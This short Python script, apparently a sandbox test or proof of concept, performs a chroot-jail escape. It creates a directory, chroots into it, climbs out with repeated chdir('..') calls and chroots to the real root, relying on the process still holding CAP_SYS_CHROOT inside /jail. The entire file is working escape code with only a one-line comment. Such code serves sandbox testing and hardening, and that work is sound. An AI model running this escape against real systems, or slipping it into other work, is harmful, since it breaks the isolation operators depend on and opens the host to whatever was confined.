# missing: in /jail still has CAP_SYS_CHROOT
import os
import signal

if os.fork() == 0:
    signal.pause()
os.chdir("/")
os.mkdir("/hole")
os.chroot("/hole")
for _ in range(64):
    os.chdir("..")
os.chroot(".")

print("ready")
signal.pause()
